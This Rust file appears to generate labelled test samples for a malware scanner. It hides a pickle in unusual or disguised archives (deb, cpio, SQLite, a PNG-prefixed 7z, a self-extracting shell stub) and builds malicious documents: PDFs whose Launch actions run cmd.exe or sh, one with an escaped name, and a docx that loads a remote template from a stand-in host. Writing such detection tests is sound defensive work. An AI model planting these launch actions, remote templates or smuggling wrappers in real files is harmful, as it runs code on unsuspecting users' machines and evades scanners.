//! Archives that few publish models in, archives behind other content, and
//! documents that run something.

use super::stream;
use super::tar::{Entry, tar};
use super::zip::{Member, Zip};
use crate::Sample;
use crate::pickle::{gzip, harmful, innocent};

type Making = (&'static str, &'static str, fn(&[u8]) -> Vec<u8>);

/// What a pickle may be in.
static MAKINGS: &[Making] = &[
    ("ar", "model.a", |pickle| ar(&[("data.pkl", pickle)])),
    ("deb", "model.deb", |pickle| {
        let inner = gzip(&tar(&[Entry::file("opt/data.pkl", pickle)]));
        ar(&[("debian-binary", b"2.0\n"), ("data.tar.gz", &inner)])
    }),
    ("cpio", "model.cpio", cpio),
    ("cpio-old", "model.cpio", cpio_old),
    ("compress", "model.pkl.Z", compress),
    ("sqlite", "cache.db", sqlite),
    ("tar-first-header-broken", "model.tar", |pickle| {
        let mut bytes = tar(&[Entry::file("a.txt", b"words"), Entry::file("data.pkl", pickle)]);
        bytes[150] ^= 1;
        bytes
    }),
    ("tar-behind-a-block", "model.tar", |pickle| {
        [vec![b'j'; 512], tar(&[Entry::file("data.pkl", pickle)])].concat()
    }),
    ("picture-and-7z", "logo.png", |pickle| {
        [b"\x89PNG\r\n\x1a\n".repeat(20), stream::seven_zip("data.pkl", pickle)].concat()
    }),
    ("script-and-gzip", "model.run", |pickle| {
        [b"#!/bin/sh\ntail -n +3 \"$0\"\n\n".as_slice(), &gzip(pickle)].concat()
    }),
];

/// All of them.
pub fn samples() -> Vec<Sample> {
    let mut samples = Vec::new();
    for (format, file, make) in MAKINGS {
        samples.push(Sample::malicious(format, "archive", "pickle", file, make(&harmful())));
        // What is broken is never plain.
        if !format.starts_with("tar-") {
            let bytes = make(&innocent());
            samples.push(Sample::benign(format, "honest archive", "pickle", file, bytes));
        }
    }
    documents(&mut samples);
    samples
}

fn documents(samples: &mut Vec<Sample>) {
    let launches = [
        ("launch", "<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>"),
        ("launch-escaped", "<</Type/Catalog/AA<</O<</S /L#61unch /Win<</F(sh)>>>>>>>>"),
    ];
    for (what, object) in launches {
        let bytes = format!("%PDF-1.4\n1 0 obj{object}endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n");
        samples.push(Sample::malicious("pdf", "document", what, "card.pdf", bytes));
    }
    let plain = "%PDF-1.4\n1 0 obj<</Type/Catalog/Title(how /S /Launch works)>>endobj\n%%EOF\n";
    samples.push(Sample::benign("pdf", "document", "plain", "card.pdf", plain));
    let related = |kind: &str, target: &str| {
        let text = format!(
            "<Relationships><Relationship Id=\"r\" Type=\"http://schemas.example/{kind}\" \
             Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
        );
        Zip::of([
            Member::stored("[Content_Types].xml", b"<Types/>"),
            Member::deflated("word/_rels/settings.xml.rels", text.as_bytes()),
        ])
        .build()
    };
    let remote = related("attachedTemplate", "http://template.example/t.dotm");
    samples.push(Sample::malicious("docx", "document", "remote-template", "card.docx", remote));
    let link = related("hyperlink", "http://paper.example/");
    samples.push(Sample::benign("docx", "document", "link", "card.docx", link));
}

fn ar(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut bytes = b"!<arch>\n".to_vec();
    for (name, content) in members {
        let name = format!("{name}/");
        bytes.extend(
            format!("{name:<16}{:<12}{:<6}{:<6}{:<8}{:<10}`\n", 0, 0, 0, 644, content.len())
                .bytes(),
        );
        bytes.extend(*content);
        if content.len() % 2 == 1 {
            bytes.push(b'\n');
        }
    }
    bytes
}

fn cpio(pickle: &[u8]) -> Vec<u8> {
    let mut bytes = Vec::new();
    for (name, content) in [("data.pkl\0", pickle), ("TRAILER!!!\0", b"")] {
        let numbers = [1, 0o100_644, 0, 0, 1, 0, content.len(), 0, 0, 0, 0, name.len(), 0];
        bytes.extend(b"070701");
        bytes.extend(numbers.iter().flat_map(|number| format!("{number:08x}").into_bytes()));
        for part in [name.as_bytes(), content] {
            bytes.extend(part);
            bytes.resize(bytes.len().next_multiple_of(4), 0);
        }
    }
    bytes
}

fn cpio_old(pickle: &[u8]) -> Vec<u8> {
    let mut bytes = Vec::new();
    for (name, content) in [("data.pkl\0", pickle), ("TRAILER!!!\0", b"")] {
        bytes.extend(
            format!(
                "070707{:06o}{:06o}{:06o}{:06o}{:06o}{:06o}{:06o}{:011o}{:06o}{:011o}{name}",
                1,
                1,
                0o100_644,
                0,
                0,
                1,
                0,
                0,
                name.len(),
                content.len()
            )
            .bytes(),
        );
        bytes.extend(content);
    }
    bytes
}

/// As Unix's `compress` writes it, with a table that is cleared before its
/// codes grow: each byte is a code of nine bits.
fn compress(pickle: &[u8]) -> Vec<u8> {
    let mut bytes = vec![0x1f, 0x9d, 0x90];
    for block in pickle.chunks(199) {
        let codes = block.iter().map(|byte| u32::from(*byte)).chain([256]);
        let codes: Vec<u32> = codes.collect();
        for eight in codes.chunks(8) {
            let mut group = [0_u8; 9];
            for bit in 0..9 * eight.len() {
                group[bit / 8] |= ((eight[bit / 9] >> (bit % 9) & 1) as u8) << (bit % 8);
            }
            bytes.extend(group);
        }
    }
    bytes
}

/// A table of one row, whose second column is the pickle.
fn sqlite(pickle: &[u8]) -> Vec<u8> {
    const PAGE: usize = 4096;
    let mut first = b"SQLite format 3\0\x10\0\x01\x01\0\x40\x20\x20".to_vec();
    first.resize(100, 0);
    first.extend([0x0d, 0, 0, 0, 0, 0x10, 0, 0]);
    first.resize(PAGE, 0);
    let two = |number: usize| [0x80 | (number >> 7) as u8, number as u8 & 0x7f];
    let payload = [&[4, 1][..], &two(12 + 2 * pickle.len()), &[7], pickle].concat();
    let cell = [&two(payload.len())[..], &[1], &payload].concat();
    let at = PAGE - cell.len();
    let mut second = vec![0x0d, 0, 0, 0, 1, (at >> 8) as u8, at as u8, 0];
    second.extend((at as u16).to_be_bytes());
    second.resize(at, 0);
    second.extend(cell);
    [first, second].concat()
}
